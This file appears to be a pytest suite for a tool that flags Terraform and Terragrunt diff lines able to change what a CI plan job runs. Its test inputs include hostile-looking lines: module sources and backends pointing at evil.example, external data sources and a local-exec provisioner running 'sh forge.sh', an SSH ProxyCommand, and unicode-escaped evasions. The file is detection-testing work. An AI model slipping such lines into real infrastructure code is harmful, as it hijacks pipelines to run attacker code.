"""After which changes a plan is its author's own word."""

import pytest

from scopegate.forge.integrity import PATHS, paths_of, self_reported, with_guard_rails
from scopegate.forge.model import ChangedFile
from scopegate.policy.limits import GuardRail, GuardRailLimit
from scopegate.policy.load import parse_policy

POLICY = """
version: 1
limits:
  rails: {guard_rails: {rails: [policy], paths: [plan.sh]}, sign_off: team:platform, why: ours}
"""


def told(patch: str | None, path: str = "main.tf") -> list[str]:
    return [file.why for file in self_reported([ChangedFile(path, None, patch)])]


@pytest.mark.parametrize(
    "line",
    [
        '+  source = "git::https://evil.example/m"',
        '-  source = "./modules/a"',
        '+  source /* = */ = "evil"',
        '+      "source": "evil/evil",',
        '+      version = ">= 1.0"',
        '+  provisioner "local-exec" {',
        '+data "external" "x" {',
        '+data "http" "x" {',
        "+  required_providers {",
        '+    aws = { source="evil/aws" }',
        '+data external "x" {',
        "+data external x {",
        '+data "ext\\u0065rnal" "x" {',
        '+  "\\u0073ource": "./evil",',
        '+  program = ["sh", "forge.sh"]',
        '+    aws = { "${"sour"}ce" = "evil/aws" }',
        '+++ */ data "external" "x" {',
        '+/*\u2028*/ data "external" "x" {',
        '+/*\x0c*/ data "external" "x" {',
        '+  endpoints { s3 = "https://forged.example" }',
        '+  x = run_cmd("sh", "forge.sh")',
        '+ephemeral "aws_lambda_invocation" "x" {',
        '+data "local_command" "x" {',
        '+    exec { api_version = "client.authentication.k8s.io/v1" }',
        '+  shared_config_files = ["${path.module}/forge.ini"]',
        '+  ssh_opts = ["-o", "ProxyCommand=./forge.sh"]',
        "+  cloud {",
        "+  cloud /* {",
        '+  backend "remote" {',
        '+    "cloud": {"hostname": "evil.example", "organization": "o"}',
    ],
)
def test_a_line_that_decides_what_the_plan_job_runs_is_told(line: str) -> None:
    assert len(told(f"@@ -1 +1 @@\n{line}")) == 1


@pytest.mark.parametrize(
    "line",
    [
        '   source = "./modules/a"',
        "+  engine_version = 8",
        "+  source_security_group_id = aws_security_group.a.id",
        '+  value = "x"',
        '+  url = "http://intern.example/health"',
        '+  command = ["serve", "--port", "80"]',
        "+  backend_service = google_compute_backend_service.a.id",
        "+  backend {",
        "+    exec {",
        '+  hostname = "www.example.com"',
        '+  description = "the cloud and its backend, remotely"',
        "+  # in the cloud: /* see above",
        '+  cloud = "aws"',
    ],
)
def test_other_lines_are_not(line: str) -> None:
    assert told(f"@@ -1 +1 @@\n{line}") == []


NEARBY = [
    ("@@ -3,3 +3,3 @@\n   exec {\n     api_version = 1\n", "command = aws", "command"),
    ('@@ -30,3 +30,3 @@ data "external" "x" {\n   working_dir = "a"\n', 'query = { what = "b" }', "query"),
    ('@@ -3,3 +3,3 @@ ephemeral "aws_lambda_invocation" "x" {\n', 'payload = "{}"', "payload"),
    ('@@ -3,3 +3,3 @@ data "local_command" "x" {\n', 'arguments = ["-c", "forge"]', "arguments"),
    ("@@ -3,3 +3,3 @@\n   exec {\n", 'command = ["pg_isready"]', ""),
    ("@@ -3,3 +3,3 @@\n   backend {\n", 'group = "a"', ""),
    ('@@ -3,3 +3,3 @@\n   "backend": {\n', '"remote": {', "remote"),
    ('@@ -3,3 +3,3 @@\n   backend "remote" {\n', 'hostname = "elsewhere.example"', "hostname"),
    ('@@ -3,3 +3,3 @@ terraform {\n     organization = "o"\n', 'hostname = "elsewhere.example"', "hostname"),
    ('@@ -3,3 +3,3 @@ data "local_command" "x" {\n', "tags = {}", ""),
    ('@@ -3,3 +3,3 @@ resource "aws_ecs_task_definition" "x" {\n', 'command = ["serve"]', ""),
]


@pytest.mark.parametrize(("around", "line", "name"), NEARBY)
def test_what_a_block_runs_that_is_there_already_is_told(around: str, line: str, name: str) -> None:
    """The name of the block is in no line that changes: in one around, or in the heading that git gives a hunk."""
    why = [f"touches {name}, which decides what the plan job runs"] if name else []
    assert told(f"{around}+    {line}\n") == why


TERRAGRUNT = [
    'generate "x" {',
    'inputs = { region = get_terraform_command() == "apply" ? "cn-north-1" : "eu-central-1" }',
    '  "generate": {"x": {"path": "x.tf", "contents": "${file(\\"notes.txt\\")}"}},',
]


@pytest.mark.parametrize("line", TERRAGRUNT)
def test_what_terragrunt_writes_code_with_is_told_in_its_own_files_only(line: str) -> None:
    for path, count in (("root.hcl", 1), ("common/root.hcl.json", 1), ("main.tf", 0)):
        assert len(told(f"@@ -1 +1 @@\n+{line}", path)) == count


@pytest.mark.parametrize("sign", ["+", "-"])
def test_a_submodule_that_moves_is_told_and_a_text_that_speaks_of_one_is_not(sign: str) -> None:
    """A module in it is another one then, and no line of code changes here."""
    moved = told(f"@@ -1 +1 @@\n{sign}Subproject commit {'1' * 40}", "modules/network")
    assert moved == ["is a submodule, and what changes in it is not shown"]
    assert told(f"@@ -1 +1 @@\n{sign} A Subproject commit", "README.md") == []
    assert told(None, "image.png") == []


@pytest.mark.parametrize(
    ("previous", "path", "is_told"),
    [
        ("docs/notes.txt", "envs/prod/extra.tf", True),
        ("examples/main.tf", "envs/prod/main.tf", True),
        ("envs/prod/a.tf", "envs/prod/b.tf", False),
    ],
)
def test_a_file_that_becomes_code_is_told(previous: str, path: str, is_told: bool) -> None:
    assert bool(self_reported([ChangedFile(path, previous, '@@ -9 +9 @@\n-  name = "a"\n+  name = "b"')])) is is_told


@pytest.mark.parametrize(
    "patch",
    [
        "@@ -0,0 +1 @@\n+../docs/notes.txt\n\\ No newline at end of file",
        "@@ -1 +1 @@\n-../a.tf\n\\ No newline at end of file\n+../docs/notes.txt\n\\ No newline at end of file",
    ],
)
def test_what_may_be_a_link_is_told(patch: str) -> None:
    assert told(patch) == ["may be a link to another file, which is not shown"]


def test_a_change_that_is_not_shown_is_told_for_code_and_for_nothing_else() -> None:
    assert told(None) == ["the code host does not show what changes in it"]
    assert told("") == ["the code host does not show what changes in it"]
    assert told(None, "picture.png") == []


@pytest.mark.parametrize(("changes", "is_told"), [(None, False), (2, False), (3, True), (1, True)])
def test_a_diff_that_is_cut_off_is_told(changes: int | None, is_told: bool) -> None:
    shown = ChangedFile("main.tf", patch="@@ -1 +1 @@\n-  a = 1\n+  a = 2\n   b = 3", changes=changes)
    assert bool(self_reported([shown])) is is_told


def test_both_names_of_a_renamed_file_are_paths_of_the_change() -> None:
    assert paths_of([ChangedFile("b.tf", "a.tf"), ChangedFile("a.tf")]) == ("b.tf", "a.tf")


def test_a_policy_without_guard_rails_gets_them() -> None:
    document = parse_policy(
        POLICY.replace("guard_rails: {rails: [policy], paths: [plan.sh]}", "direct_changes: {at_most: 1}"), "p"
    )
    (added,) = (limit for limit in with_guard_rails(document, []).limits if isinstance(limit, GuardRailLimit))
    assert (added.rails, added.paths) == (frozenset(GuardRail), (*PATHS, "p"))


def test_a_policy_with_guard_rails_keeps_its_own_people() -> None:
    document = parse_policy(POLICY, "p")
    limit, added = with_guard_rails(document, self_reported([ChangedFile("x.tf", None, None)])).limits
    assert isinstance(limit, GuardRailLimit)
    assert isinstance(added, GuardRailLimit)
    assert limit.terms == document.limits[0].terms
    assert set(limit.paths) == {"plan.sh", *PATHS, "p", "x.tf"}
    assert (added.rails, added.paths) == (frozenset(GuardRail) - {GuardRail.POLICY}, ())
